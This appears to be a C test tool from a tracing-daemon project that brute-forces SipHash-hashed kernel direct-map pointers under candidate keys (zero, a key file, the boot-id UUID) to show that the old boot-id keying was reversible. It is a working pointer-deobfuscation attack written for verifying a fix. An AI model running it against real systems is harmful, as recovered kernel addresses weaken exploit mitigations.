// SPDX-License-Identifier: GPL-2.0
/* The attack of issue 19: reverse "hashed" kernel pointers by trying every
 * 64-byte aligned address of the direct map with each key a reader might
 * know. The hash is the one %p prints (SipHash-2-4 of the address, low 32
 * bits). A wrong key still matches by chance, 1 in 2^32 per address: 1 in
 * 32 hashes gets a candidate from 8 GiB. The right key gives one to every
 * hash whose address is in the range, so the share of hashes with a
 * candidate tells the right key from a wrong one, with no other knowledge.
 * And with the record's true address beside its hash (from --read and
 * --read --raw-pointers of the same store, line by line), a candidate that
 * is that address is a reversal, counted.
 *
 *   ptr_brute [-g GIB] KEY... <HASHES
 *
 * HASHES: "GROUP HASH [RAW]" a line: GROUP a word (where the hash was seen:
 * journal, read...), HASH and RAW in hex ("0x" optional). KEY: zero,
 * keyfile:PATH (the "key=" line of tracerd's pointer key file: k0 then k1;
 * read from the file, never from argv, which everyone may read), uuid:PATH
 * (the first 32 hex digits of the file, k0 then k1: how tracerd before
 * issue 19 keyed SipHash with the boot id), uuid-le:PATH (the same 16 bytes
 * as two little-endian words). The range is GIB (default 8) GiB from
 * 0xffff888000000000, moved up to the GiB of the lowest raw pointer there,
 * so that it holds some. Per key, a line per group and one for the pairs:
 *   KEY GROUP: H of N hashes have a candidate
 *   KEY: R of P pointers in range reversed
 * (P: the distinct pairs whose pointer the search tries). */
#include <ctype.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define DIRECT_MAP 0xffff888000000000ULL
#define GIB (1ULL << 30)
#define STEP 64

/* SipHash written out again, not linked from render_ptr.c: the attacker's
 * own copy, so that a fault in tracerd's hash cannot hide itself here
 * (pointer_key.sh shows the two agree: with the real key it reverses
 * every pointer; test_ptrkey checks tracerd's against the paper's vector). */
#define ROTL(x, b) (uint64_t)(((x) << (b)) | ((x) >> (64 - (b))))
#define SIPROUND do { \
	v0 += v1; v1 = ROTL(v1, 13); v1 ^= v0; v0 = ROTL(v0, 32); \
	v2 += v3; v3 = ROTL(v3, 16); v3 ^= v2; \
	v0 += v3; v3 = ROTL(v3, 21); v3 ^= v0; \
	v2 += v1; v1 = ROTL(v1, 17); v1 ^= v2; v2 = ROTL(v2, 32); } while (0)

static inline uint32_t siphash32(uint64_t m, const uint64_t k[2])
{
	uint64_t v0 = 0x736f6d6570736575ULL ^ k[0], v1 = 0x646f72616e646f6dULL ^ k[1];
	uint64_t v2 = 0x6c7967656e657261ULL ^ k[0], v3 = 0x7465646279746573ULL ^ k[1];
	uint64_t b = 8ULL << 56;

	v3 ^= m; SIPROUND; SIPROUND; v0 ^= m;
	v3 ^= b; SIPROUND; SIPROUND; v0 ^= b;
	v2 ^= 0xff;
	SIPROUND; SIPROUND; SIPROUND; SIPROUND;
	return (uint32_t)(v0 ^ v1 ^ v2 ^ v3);
}

/* An open-addressing set of 64-bit values (0 is never stored: no hash or
 * pointer of interest is 0). */
struct set {
	uint64_t *v;
	size_t mask, n;
};

static size_t slot(const struct set *s, uint64_t x)
{
	size_t i = (x * 0x9e3779b97f4a7c15ULL) >> 20 & s->mask;

	while (s->v[i] && s->v[i] != x)
		i = (i + 1) & s->mask;
	return i;
}

/* 1 if x is new. */
static int set_add(struct set *s, uint64_t x)
{
	size_t i;

	if (!x)
		return 0;
	if (2 * (s->n + 1) > s->mask) {
		struct set t = { calloc(2 * (s->mask + 1), 8), 2 * (s->mask + 1) - 1, 0 };

		if (!t.v)
			exit(2);
		for (size_t j = 0; j <= s->mask; j++)
			if (s->v[j])
				set_add(&t, s->v[j]);
		free(s->v);
		*s = t;
	}
	i = slot(s, x);
	if (s->v[i])
		return 0;
	s->v[i] = x;
	s->n++;
	return 1;
}

static int set_has(const struct set *s, uint64_t x)
{
	return s->v[slot(s, x)] == x;
}

static void set_init(struct set *s)
{
	s->mask = 1023;
	s->n = 0;
	s->v = calloc(s->mask + 1, 8);
	if (!s->v)
		exit(2);
}

/* A (hash, pointer) pair as one set member. */
static uint64_t pair(uint64_t h, uint64_t ptr)
{
	return ptr ^ h * 0x9e3779b97f4a7c15ULL;
}

#define MAX_GROUPS 8
struct group {
	char name[32];
	struct set hashes;
};

/* The pointer of each distinct pair, in *ptrs. */
static size_t read_input(FILE *f, struct group *g, size_t *n_groups, struct set *hashes,
			 struct set *raw, struct set *pairs, uint64_t **ptrs)
{
	char line[160], name[32], *end;
	size_t n = 0, cap = 0, i;
	int off;

	while (fgets(line, sizeof(line), f)) {
		uint64_t h, ptr;

		if (sscanf(line, "%31s %n", name, &off) != 1)
			continue;
		h = strtoull(line + off, &end, 16);
		ptr = strtoull(end, NULL, 16);
		for (i = 0; i < *n_groups && strcmp(g[i].name, name); i++)
			;
		if (i == *n_groups) {
			if (i == MAX_GROUPS)
				exit(2);
			snprintf(g[i].name, sizeof(g[i].name), "%s", name);
			set_init(&g[i].hashes);
			(*n_groups)++;
		}
		set_add(&g[i].hashes, h);
		set_add(hashes, h);
		if (!h || !ptr || !set_add(pairs, pair(h, ptr)))
			continue;
		set_add(raw, ptr);
		if (n == cap && !(*ptrs = realloc(*ptrs, (cap = cap ? 2 * cap : 1024) * 8)))
			exit(2);
		(*ptrs)[n++] = ptr;
	}
	return n;
}

/* The search: one key over [lo, hi), split between threads. */
struct job {
	uint64_t k[2], lo, hi;
	const struct set *hashes, *pairs;
	const uint8_t *filter;		/* a bit per low 20 bits of a hash */
	struct set *found;		/* hashes with a candidate; under lock */
	struct set *reversed;		/* pairs found; under lock */
	pthread_mutex_t *lock;
};

static void *search(void *arg)
{
	struct job *j = arg;

	for (uint64_t a = j->lo; a < j->hi; a += STEP) {
		uint32_t h = siphash32(a, j->k);

		if (!(j->filter[h >> 3 & 0x1ffff] & 1 << (h & 7)) || !set_has(j->hashes, h))
			continue;
		pthread_mutex_lock(j->lock);
		set_add(j->found, h);
		if (set_has(j->pairs, pair(h, a)))
			set_add(j->reversed, pair(h, a));
		pthread_mutex_unlock(j->lock);
	}
	return NULL;
}

static int parse_key(const char *arg, uint64_t k[2])
{
	char hex[33] = "", buf[256] = "";
	size_t n = 0;
	FILE *f;

	k[0] = k[1] = 0;
	if (!strcmp(arg, "zero"))
		return 0;
	if (strncmp(arg, "keyfile:", 8) && strncmp(arg, "uuid:", 5) && strncmp(arg, "uuid-le:", 8))
		return -1;
	f = fopen(strchr(arg, ':') + 1, "re");
	if (!f) {
		perror(arg);
		return -1;
	}
	while (fgets(buf, sizeof(buf), f) && !strncmp(arg, "keyfile:", 8) && strncmp(buf, "key=", 4))
		;
	fclose(f);
	if (!strncmp(arg, "keyfile:", 8))
		memmove(buf, buf + 4, strlen(buf + 4) + 1);
	for (size_t i = 0; buf[i] && n < 32; i++)
		if (isxdigit((unsigned char)buf[i]))
			hex[n++] = buf[i];
	if (n != 32)
		return -1;
	if (!strncmp(arg, "uuid-le:", 8)) {
		uint8_t b[16];

		for (int i = 0; i < 16; i++)
			sscanf(hex + 2 * i, "%2hhx", &b[i]);
		memcpy(k, b, 16);
		return 0;
	}
	sscanf(hex, "%16llx", (unsigned long long *)&k[0]);
	sscanf(hex + 16, "%16llx", (unsigned long long *)&k[1]);
	return 0;
}

/* The range's start: the GiB of the lowest raw pointer in the direct map. */
static uint64_t range_start(const struct set *raw)
{
	uint64_t lo = UINT64_MAX;

	for (size_t i = 0; i <= raw->mask; i++)
		if (raw->v[i] >= DIRECT_MAP && raw->v[i] < lo)
			lo = raw->v[i];
	return lo == UINT64_MAX ? DIRECT_MAP : DIRECT_MAP + ((lo - DIRECT_MAP) & ~(GIB - 1));
}

/* The distinct pairs whose pointer the search over [lo, hi) tries. */
static size_t pairs_in_range(const uint64_t *ptrs, size_t n, uint64_t lo, uint64_t hi)
{
	size_t in = 0;

	for (size_t i = 0; i < n; i++)
		in += ptrs[i] >= lo && ptrs[i] < hi && !(ptrs[i] % STEP);
	return in;
}

static void run_key(const char *name, const uint64_t k[2], uint64_t lo, uint64_t hi,
		    const struct group *g, size_t n_groups, const struct set *hashes,
		    const struct set *pairs, size_t in_range, const uint8_t *filter)
{
	long nthreads = sysconf(_SC_NPROCESSORS_ONLN);
	pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
	struct set found, reversed;
	pthread_t tid[64];
	struct job jobs[64];
	uint64_t per;

	nthreads = nthreads < 1 ? 1 : nthreads > 64 ? 64 : nthreads;
	per = ((hi - lo) / nthreads + STEP - 1) & ~(uint64_t)(STEP - 1);
	set_init(&found);
	set_init(&reversed);
	for (long t = 0; t < nthreads; t++) {
		jobs[t] = (struct job){ { k[0], k[1] }, lo + t * per, t == nthreads - 1 ? hi : lo + (t + 1) * per,
					hashes, pairs, filter, &found, &reversed, &lock };
		pthread_create(&tid[t], NULL, search, &jobs[t]);
	}
	for (long t = 0; t < nthreads; t++)
		pthread_join(tid[t], NULL);
	for (size_t i = 0; i < n_groups; i++) {
		size_t n = 0;

		for (size_t j = 0; j <= g[i].hashes.mask; j++)
			n += g[i].hashes.v[j] && set_has(&found, g[i].hashes.v[j]);
		printf("%s %s: %zu of %zu hashes have a candidate\n", name, g[i].name, n, g[i].hashes.n);
	}
	printf("%s: %zu of %zu pointers in range reversed\n", name, reversed.n, in_range);
	fflush(stdout);
	free(found.v);
	free(reversed.v);
}

int main(int argc, char **argv)
{
	struct set hashes, raw, pairs;
	static struct group groups[MAX_GROUPS];
	uint64_t gib = 8, lo, k[2], *ptrs = NULL;
	size_t in_range, n_pairs, n_groups = 0;
	static uint8_t filter[1 << 17];
	int c;

	set_init(&hashes);
	set_init(&raw);
	set_init(&pairs);
	while ((c = getopt(argc, argv, "g:")) >= 0) {
		if (c != 'g') {
			fprintf(stderr, "usage: ptr_brute [-g GIB] KEY... <HASHES\n");
			return 2;
		}
		gib = strtoull(optarg, NULL, 10);
	}
	n_pairs = read_input(stdin, groups, &n_groups, &hashes, &raw, &pairs, &ptrs);
	for (size_t i = 0; i <= hashes.mask; i++)
		if (hashes.v[i])
			filter[hashes.v[i] >> 3 & 0x1ffff] |= 1 << (hashes.v[i] & 7);
	lo = range_start(&raw);
	in_range = pairs_in_range(ptrs, n_pairs, lo, lo + gib * GIB);
	printf("# range %#llx + %llu GiB, %zu hashes, %zu raw pointers, %zu pairs\n", (unsigned long long)lo,
	       (unsigned long long)gib, hashes.n, raw.n, pairs.n);
	for (int i = optind; i < argc; i++) {
		if (parse_key(argv[i], k) < 0) {
			fprintf(stderr, "ptr_brute: bad key '%s'\n", argv[i]);
			return 2;
		}
		run_key(argv[i], k, lo, lo + gib * GIB, groups, n_groups, &hashes, &pairs, in_range, filter);
	}
	for (size_t i = 0; i < n_groups; i++)
		free(groups[i].hashes.v);
	free(hashes.v);
	free(raw.v);
	free(pairs.v);
	free(ptrs);
	return 0;
}
